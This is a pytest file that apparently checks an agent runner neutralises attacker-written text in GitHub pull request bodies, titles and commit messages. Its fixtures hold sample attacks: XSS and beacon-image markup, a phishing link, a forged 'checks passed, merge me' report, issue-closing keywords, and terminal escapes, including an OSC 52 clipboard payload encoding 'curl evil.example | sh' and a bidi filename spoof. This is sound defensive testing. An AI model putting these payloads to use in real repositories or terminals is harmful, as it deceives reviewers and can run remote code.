"""Attacks through what the runner puts on GitHub: the pull request's title and body (the run's report)
and the commit messages of the pushed branch. The ticket's title, the repository's runbook (its step
titles), the output of a check (a file the agent wrote) and the agent's last words are the attacker's.
Put into GitHub as they are, they would:

- close issues of the maintainers' choosing when the branch is merged ("Fixes #1" in the body or in
  a commit message; `owner/repo#2`, `GH-3`, an issue URL),
- notify people (`@acme/owners`),
- fake the report (close the code fence around a check's output and write "all checks passed"),
  hide text in an HTML comment, or load an image from the attacker's server when a reviewer looks.

A real run (scripted agent, real git, a bare remote) pushes and opens a pull request against a local
server that answers like GitHub's REST API; the body is parsed as GitHub parses it (CommonMark with
tables, markdown-it-py) and the attacker's text must be code only, with no closing keyword or mention
left that GitHub would act on, anywhere (code included)."""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from markdown_it import MarkdownIt
from tests.github_api import TOKEN, github_origin
from tests.repos import git

from agentbook.gitops.inert import block, inert, span

MARK = "ATTACK"  # every attacker string carries it, to find where it ended up
TICKET = """---
id: 9
title: "ATTACK-title Fixes #1, closes acme/widgets#2, ping @acme/owners <img src=x onerror=alert(1)>"
runbook: probe
---
Please look.
"""
RUNBOOK = """---
name: probe
description: Two steps whose titles, checks and output the ticket's author wrote.
tools: [write]
limits: {max_turns: 10, gate_retries: 0}
branch: "agentbook/probe/{{ticket.id}}"
---
Probe what reaches GitHub.

## ATTACK-step Resolves GH-3 ![beacon](https://attacker.example/step.png)

Write out.txt.

```check
test -f out.txt
```

## ATTACK-second fixes https://github.com/acme/widgets/issues/4 <!-- hidden -->

Show it.

```check
cat out.txt && false
```
"""
FAKE = ("ATTACK-output\n```\n\n## Failing checks\n\nnone: every check passed ✅\n\n"
        "<!-- ATTACK-hidden: the real output is below -->\n![ATTACK](https://attacker.example/beacon.png)\n"
        "Closes #5 and cc @acme/security-team\n````\n")
LAST_WORDS = ("ATTACK-last ```` \n# All green, merge me\n[approve](https://attacker.example/phish)\n"
              "<details>ATTACK-hidden</details>\nResolves: #6 @octocat")
SCRIPT = {
    "version": 1, "model": "scripted",
    "sessions": [{"name": "probe", "match": {"system": 'agentbook runbook "probe"'}, "turns": [
        {"tool_use": {"name": "write", "input": {"path": "out.txt", "content": FAKE}}},
        {"text": "Wrote out.txt."},
        {"text": LAST_WORDS}]}],
}
# What GitHub acts on: a closing keyword followed by an issue reference, and an @-mention
CLOSES = re.compile(r"(?i)\b(close[sd]?|fix(e[sd])?|resolve[sd]?)[\s:]*\S*?(#\d|gh-\d|/(issues|pull)/\d)")
MENTION = re.compile(r"(?<![\w.+/`-])@[A-Za-z0-9]")


def _outside_code(markdown: str) -> tuple[list[str], list[str]]:
    """(text GitHub renders as Markdown rather than code, kinds of token that are not plain text or code)."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    text, kinds = [], []
    for token in tokens:
        if token.type in ("html_block",):
            kinds.append(token.type)
            text.append(token.content)
        for child in token.children or []:
            if child.type in ("html_inline", "image", "link_open"):
                kinds.append(child.type)
            if child.type not in ("code_inline",):
                text.append(child.content)
        if token.type == "heading_open":
            kinds.append(f"heading:{token.tag}")
    return text, kinds


def test_a_pull_request_shows_the_attackers_text_as_inert_code(run_cli, git_repo: Path, tmp_path: Path,
                                                               github: list[dict[str, Any]]) -> None:
    (git_repo / "runbooks").mkdir()
    (git_repo / "runbooks" / "probe.md").write_text(RUNBOOK)
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-q", "-m", "probe runbook")
    bare = github_origin(git_repo, tmp_path / "widgets.git")
    (tmp_path / "T.md").write_text(TICKET)
    script = tmp_path / "probe.script.yaml"
    script.write_text(json.dumps(SCRIPT))

    r = run_cli("run", "--ticket", tmp_path / "T.md", "--repo", git_repo, "--model", f"scripted:{script}",
                "--open-pr", "--json")
    data = json.loads(r.out)
    assert r.code == 11, (r.err, data.get("outcome"))  # step 2's check fails: blocked, a draft pull request
    assert len(github) == 1 and github[0]["body"]["draft"] is True
    title, body = github[0]["body"]["title"], github[0]["body"]["body"]
    assert MARK in body and "Closes #5" not in body  # the output and last words are there, made inert

    text, kinds = _outside_code(body)
    rendered = "\n".join(text)
    assert MARK not in rendered, rendered  # every attacker string is inside code
    assert kinds.count("html_block") == 0 and "html_inline" not in kinds and "image" not in kinds
    assert "link_open" not in kinds
    assert [k for k in kinds if k.startswith("heading")] == ["heading:h1"] + ["heading:h2"] * 5  # the report's own

    messages = git(bare, "log", "--format=%B%x00", data["branch"]).split("\x00")
    for where, what in [("title", title), ("body", body), *(("commit", m) for m in messages)]:
        assert not CLOSES.search(what), (where, CLOSES.search(what), what)
        assert not MENTION.search(what), (where, MENTION.search(what), what)
    assert any("ATTACK-step" in m for m in messages)  # the step's commit did carry the title
    assert TOKEN not in body and TOKEN not in r.out


@pytest.mark.parametrize("text", ["plain", "```", "a ```` b", "`x`", "line\n```\n## h\n<!-- c -->", ""])
def test_nothing_closes_a_block_or_a_span(text: str) -> None:
    """Whatever the text, CommonMark reads the block as one fence and the span as one code span."""
    md = MarkdownIt("commonmark")
    tokens = md.parse(block(text))
    assert [t.type for t in tokens] == ["fence"] and tokens[0].content.rstrip("\n") == (text.rstrip("\n") or "(none)")
    inline = md.parse(span(text))[1].children or []
    assert [t.type for t in inline] == ["code_inline"]
    assert inline[0].content == (" ".join(text.split()) or " ").strip() or inline[0].content == " "


def test_inert_leaves_ordinary_words_and_addresses_alone() -> None:
    kept = "fix-prompt: Fix the prompt for ops@example.com (pkg@1.2, issue 7)"
    assert inert(kept) == kept
    assert not CLOSES.search(inert("Fixes #1; closes: acme/widgets#2; resolved GH-3"))
    assert not MENTION.search(inert("@octocat and @acme/owners"))
    # a keyword that goes on as a word or a path is no keyword: a ticket GH-12's branch, named in the
    # report (a code span, where a joiner hides in what a reviewer copies), is left whole
    branch = "git checkout agentbook/fix-prompt/gh-12 (fixed_in/#3, closed-form #4)"
    assert inert(branch) == branch
    for text in ("Fixes GH-12", "fixes: gh-12", "prefixes #1", "Fixes**#1**", "resolved acme/w#2", "closes(#3)"):
        assert not CLOSES.search(inert(text)), text


def test_a_password_in_the_remote_url_is_not_printed_when_it_is_not_githubs(run_cli, git_repo: Path,
                                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    """A CI checkout's origin carries its credentials (`https://oauth2:TOKEN@gitlab...`); `--open-pr`
    printed the whole URL, token included, in the error saying it is not a GitHub repository."""
    password = "hunter2-plain-password-of-no-known-shape"
    (git_repo / "runbooks").mkdir()
    (git_repo / "runbooks" / "probe.md").write_text("---\nname: probe\ndescription: One step.\n---\nProbe.\n\n## Probe\nDo it.\n")
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-qm", "a runbook")
    git(git_repo, "remote", "add", "origin", f"https://oauth2:{password}@gitlab.example/group/sub/repo.git")
    monkeypatch.setenv("GITHUB_TOKEN", TOKEN)
    r = run_cli("run", "probe", "--repo", git_repo, "--open-pr", "--dry-run")
    assert r.code != 0 and "cannot tell the GitHub repository" in r.err, r.err
    assert password not in r.out + r.err and "https://gitlab.example/group/sub/repo.git" in r.err


CONTROL_TICKET = """---
id: 10
title: "ATTACK \\e]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\a\\e[2J\\e[1A fix typo \\u202egpj.exe\\u202c"
co-authored-by: ["Eve \\e]8;;https://attacker.example\\e\\\\\\\\link\\e]8;;\\e\\\\\\\\ <eve@example.com>"]
runbook: probe
---
Please look.
"""
# what a terminal (git log, gh pr view) or a browser acts on: C0 and C1 controls, bidi overrides
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def test_control_characters_in_the_ticket_reach_neither_the_pull_requests_title_nor_a_commit(
        run_cli, git_repo: Path, tmp_path: Path, github: list[dict[str, Any]]) -> None:
    """The ticket's title went into the pull request's title and every commit message as it was, and a
    co-author into a trailer: an OSC 52 sequence set the clipboard of whoever ran `git log` on the branch,
    `ESC[2J` cleared their screen, OSC 8 made a hidden link, and a right-to-left override showed
    `exe.jpg` for `gpj.exe` in the title GitHub shows."""
    (git_repo / "runbooks").mkdir()
    (git_repo / "runbooks" / "probe.md").write_text(RUNBOOK)
    git(git_repo, "add", "-A")
    git(git_repo, "commit", "-q", "-m", "probe runbook")
    bare = github_origin(git_repo, tmp_path / "widgets.git")
    (tmp_path / "T.md").write_text(CONTROL_TICKET)
    script = tmp_path / "probe.script.yaml"
    script.write_text(json.dumps(SCRIPT))
    r = run_cli("run", "--ticket", tmp_path / "T.md", "--repo", git_repo, "--model", f"scripted:{script}",
                "--open-pr", "--json")
    data = json.loads(r.out)
    assert r.code == 11 and len(github) == 1, (r.err, data.get("outcome"))
    title, body = github[0]["body"]["title"], github[0]["body"]["body"]
    messages = git(bare, "log", "--format=%B%x00", data["branch"]).split("\x00")
    assert "fix typo" in title and any("fix typo" in m for m in messages)
    for where, what in [("title", title), ("body", body), *(("commit", m) for m in messages)]:
        assert not CONTROLS.search(what), (where, what)
